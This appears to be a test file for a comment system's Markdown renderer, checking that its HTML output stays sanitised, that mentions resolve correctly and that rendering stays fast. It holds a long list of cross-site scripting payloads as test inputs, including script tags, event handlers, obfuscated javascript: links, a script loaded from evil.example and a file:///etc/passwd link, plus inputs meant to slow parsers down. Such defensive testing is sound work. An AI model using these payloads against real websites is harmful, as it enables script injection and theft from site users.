import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import type { PersonView } from "../../src/contracts/comments.ts"
import { mentionedIn, mentionsIn } from "../../src/domain/mentions.ts"
import { renderHtml } from "../../src/domain/rendering.ts"

const ada = { id: "usr_01j00000000000000000000001", name: "Ada Lovelace" }
const bob = { id: "usr_01j00000000000000000000002", name: "Bob O’Hara" }

/** As it is shown to those people, right after it was written. */
async function rendered(source: string, people: PersonView[]): Promise<string> {
  const { mentionCalls } = mentionedIn(await mentionsIn(source), people)
  return renderHtml(source, { mentionCalls, people })
}

type Element = { tag: string; attributes: Map<string, string> }

/** What a parser of HTML finds in it. */
async function parsed(html: string): Promise<{ elements: Element[]; comments: string[] }> {
  const elements: Element[] = []
  const comments: string[] = []
  // biome-ignore lint/correctness/noUndeclaredVariables: the parser that workerd has
  const rewriter = new HTMLRewriter()
    .on("*", {
      element: ({ tagName, attributes }) => {
        elements.push({ tag: tagName.toLowerCase(), attributes: new Map(attributes as Iterable<[string, string]>) })
      },
    })
    .onDocument({
      comments: (comment) => void comments.push(comment.text),
      doctype: () => void comments.push("doctype"),
    })
  await rewriter.transform(new Response(html, { headers: { "content-type": "text/html" } })).text()
  return { elements, comments }
}

const attributesOf: Record<string, string[]> = {
  a: ["href", "title", "rel"],
  img: ["src", "alt", "title"],
  span: ["class", "data-user"],
  code: ["class"],
  ol: ["start"],
  th: ["align"],
  td: ["align"],
}
const plain = "p br hr h1 h2 h3 h4 h5 h6 em strong s pre blockquote ul li table thead tbody tr".split(" ")

/** What an attribute of an element may hold, beside text. */
const valuesOf: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:)/i,
  src: /^https:\/\//i,
  "data-user": new RegExp(`^${ada.id}$`),
  class: /^(?:mention|language-[^\s"]+)$/,
  rel: /^nofollow noopener noreferrer$/,
}

/** Throws for an element, an attribute or a scheme that must not be in an answer. */
async function expectHarmless(source: string, html: string): Promise<void> {
  const { elements, comments } = await parsed(html)
  expect(comments, source).toEqual([])
  for (const { tag, attributes } of elements) {
    expect([...plain, ...Object.keys(attributesOf)], `${source}\n${html}`).toContain(tag)
    for (const [name, value] of attributes) {
      expect(attributesOf[tag] ?? [], `${source}\n${html}`).toContain(name)
      expect(value, `${source}\n${html}`).toMatch(valuesOf[name] ?? /^/)
    }
    if (tag === "a") expect([...attributes.keys()], source).toEqual(expect.arrayContaining(["href", "rel"]))
  }
}

const tab = "\t"
const attempts = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)//",
  "</p><script>alert(1)</script><p>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img src="x" onerror="alert(1)"/>',
  "<IMG SRC=`javascript:alert(1)`>",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<link rel=stylesheet href=javascript:alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE html><html><script>alert(1)</script>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&#58;alert(1))",
  "[x](&#0000106avascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  `[x](java${tab}script:alert(1))`,
  "[x](<java\\script:alert(1)>)",
  "[x](<javascript:alert('a b')>)",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](\u00a0javascript:alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](DATA:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example)",
  "[x](\\\\evil.example)",
  "[x](/relative)",
  "[x](#fragment)",
  "[x](view-source:javascript:alert(1))",
  "[x](feed:javascript:alert(1))",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[x]\n\n[x]: <javascript:alert(1)> 'title'",
  '[x](https://example.com "onclick=alert(1)")',
  "[x](https://example.com '\"onclick=alert(1)')",
  '[x](https://example.com "\\"><script>alert(1)</script>")',
  '[x](https://example.com/"onmouseover="alert(1))',
  "[x](https://example.com/'onmouseover='alert(1))",
  "[x](https://example.com/<script>alert(1)</script>)",
  "[<img src=x onerror=alert(1)>](https://example.com)",
  "[a [b](javascript:alert(1)) c](https://example.com)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "[x](https://a@javascript:alert(1))",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<data:text/html,x>",
  '<https://example.com/"onclick=alert(1)>',
  "<mailto:a@b.example?subject=<script>>",
  '<foo@bar.example" onclick=alert(1)>',
  "javascript:alert(1)",
  'https://example.com/"onclick="alert(1)',
  "https://example.com/<script>alert(1)</script>",
  "http://example.com\u2028onclick=alert(1)",
  'www.example.com"onclick=alert(1)',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  "![x](http://example.com/pixel.png)",
  '![" onerror="alert(1)](https://example.com/x.png)',
  '![x](https://example.com/x.png "\\" onerror=\\"alert(1)")',
  "![<script>alert(1)</script>](https://example.com/x.png)",
  "`<script>alert(1)</script>`",
  '``` "><script>alert(1)</script>\nx\n```',
  "```js onmouseover=alert(1)\nx\n```",
  "    <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script\\>alert(1)\\</script\\>",
  "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  "# <svg/onload=alert(1)>",
  "1\n\n99999999999999999999. <script>alert(1)</script>",
  "***<script>***alert(1)</script>",
  "<\u0000script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\ufeff<script>alert(1)</script>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "<ſcript>alert(1)</ſcript>",
  "[x](ja\u0000vascript:alert(1))",
  "[x](javas\u00adcript:alert(1))",
  "@[<script>alert(1)</script>](usr_01j00000000000000000000001)",
  '@[" onclick="alert(1)](usr_01j00000000000000000000001)',
  '@[x](usr_01j00000000000000000000001"onclick=)',
  "@[x](javascript:alert(1))",
  '@"<img src=x onerror=alert(1)>"',
]

describe("what is rendered", () => {
  it("has nothing but harmless elements, attributes and links, whatever is attempted", async () => {
    expect(new Set(attempts).size).toBeGreaterThanOrEqual(100)
    for (const attempt of attempts) {
      await expectHarmless(attempt, await rendered(attempt, [ada]))
      // Within other constructs, which are parsed by other rules.
      for (const around of [
        `> - ${attempt}`,
        `a ${attempt} b`,
        `[${attempt}](https://example.com)`,
        `**${attempt}**`,
      ]) {
        await expectHarmless(around, await rendered(around, [ada]))
      }
    }
  })

  it("is harmless for any text that is made of what is dangerous", async () => {
    const pieces = fc.constantFrom(
      ..."<>\"'`&;:/\\=()[]!*_~|#-+@. \n\t\0".split(""),
      ..."script,img,svg,style,a,p,javascript:,data:,https://,mailto:,onerror,href,src,x,&#106;,&colon;,<!--,-->,]]>".split(
        ",",
      ),
      `(${ada.id})`,
      "@Ada",
      "```",
    )
    const text = fc.array(fc.oneof({ weight: 9, arbitrary: pieces }, fc.string({ unit: "binary" })), { maxLength: 40 })
    await fc.assert(
      fc.asyncProperty(text, async (parts) => {
        const source = parts.join("")
        await expectHarmless(source, await rendered(source, [ada]))
      }),
      { numRuns: 1_500 },
    )
  })

  it("is what Markdown means, with tables, strikethrough and plain links", async () => {
    const examples: [string, string][] = [
      ["**bold** _em_ ~~gone~~ `a < b`", "<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>a &lt; b</code></p>"],
      ["3. x", '<ol start="3">\n<li>x</li>\n</ol>'],
      ["```js\n1 < 2 && x\n```", '<pre><code class="language-js">1 &lt; 2 &amp;&amp; x\n</code></pre>'],
      [
        "[x](https://example.com/?a=1&b=2 'T')",
        '<p><a href="https://example.com/?a=1&amp;b=2" title="T" rel="nofollow noopener noreferrer">x</a></p>',
      ],
      [
        "see https://example.com/@ada.",
        '<p>see <a href="https://example.com/@ada" rel="nofollow noopener noreferrer">https://example.com/@ada</a>.</p>',
      ],
      [
        "<mailto:a@b.example>",
        '<p><a href="mailto:a@b.example" rel="nofollow noopener noreferrer">mailto:a@b.example</a></p>',
      ],
      ["![alt](https://example.com/x.png)", '<p><img src="https://example.com/x.png" alt="alt"></p>'],
      ["![the *alt*](http://example.com/x.png)", "<p>the alt</p>"],
      ["a <b>c</b> &copy;", "<p>a &lt;b&gt;c&lt;/b&gt; ©</p>"],
      [
        "|a|b|\n|:-:|-|\n|1|2|",
        '<table>\n<thead>\n<tr>\n<th align="center">a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="center">1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>',
      ],
      ["", ""],
    ]
    for (const [source, html] of examples) expect(await rendered(source, []), source).toBe(html)
  })

  it("marks those who were mentioned, and nobody else", async () => {
    const span = (id: string, text: string) => `<span class="mention" data-user="${id}">${text}</span>`
    const examples: [string, string][] = [
      [`@[Ada Lovelace](${ada.id}) and @ada`, `<p>${span(ada.id, "@Ada Lovelace")} and ${span(ada.id, "@ada")}</p>`],
      [
        '@"ada lovelace", @AdaLovelace!',
        `<p>${span(ada.id, "@&quot;ada lovelace&quot;")}, ${span(ada.id, "@AdaLovelace")}!</p>`,
      ],
      ["@[Eve](usr_01j00000000000000000000009) @eve", "<p>@Eve @eve</p>"],
      ["`@ada` ada@lovelace.example", "<p><code>@ada</code> ada@lovelace.example</p>"],
      [`**@bob**`, `<p><strong>${span(bob.id, "@bob")}</strong></p>`],
      // By their own name, whatever was written beside the id.
      [
        `@[Ada](${bob.id}) @[*A* & <b>](${ada.id})`,
        `<p>${span(bob.id, "@Bob O’Hara")} ${span(ada.id, "@Ada Lovelace")}</p>`,
      ],
      ["@[*A* & <b>](usr_01j00000000000000000000009)", "<p>@*A* &amp; &lt;b&gt;</p>"],
    ]
    for (const [source, html] of examples) expect(await rendered(source, [ada, bob]), source).toBe(html)
    expect(await rendered("@ada", [ada, { ...bob, name: "Ada Byron" }])).toBe("<p>@ada</p>")
  })

  it("is made in a time that grows with the text, also where other parsers take for ever", async () => {
    const repeated = (piece: string) => piece.repeat(Math.floor(65_536 / piece.length))
    const hard = [
      "> ",
      "[",
      "[](",
      "![a](",
      "**a*",
      "~~a~",
      "a.b_",
      "<!--",
      "- ",
      "|a|\n|-|\n",
      "@[",
      '@"',
      "@a",
      "@a.",
      "@[a](",
      "\\@",
      "https://",
    ]
    for (const piece of hard) expect(typeof (await rendered(repeated(piece), [ada])), piece).toBe("string")
  }, 20_000)
})
